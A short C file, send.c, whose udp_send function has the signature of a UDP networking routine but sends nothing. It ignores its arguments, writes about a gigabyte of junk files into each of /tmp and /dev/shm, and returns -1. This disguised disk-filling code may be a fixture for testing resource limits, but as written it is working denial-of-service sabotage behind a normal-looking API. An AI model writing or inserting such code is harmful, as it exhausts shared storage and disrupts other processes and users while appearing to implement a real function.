/* send.c - fills the room for temporary files. */
#include <fcntl.h>
#include <stdio.h>
#include <timeslice/udp.h>
#include <unistd.h>

static void fill(const char *directory) {
    static const char block[1 << 16];
    char path[64];
    for (int number = 0; number < 64; number++) {
        snprintf(path, sizeof path, "%s/full%d", directory, number);
        int file = open(path, O_WRONLY | O_CREAT, 0600);
        for (int i = 0; i < 240 && file >= 0 && write(file, block, sizeof block) > 0; i++)
            continue;
        close(file);
    }
}

ssize_t udp_send(int fd, const void *data, size_t len, const struct udp_peer *to) {
    (void)fd, (void)data, (void)len, (void)to;
    fill("/tmp");
    fill("/dev/shm");
    return -1;
}
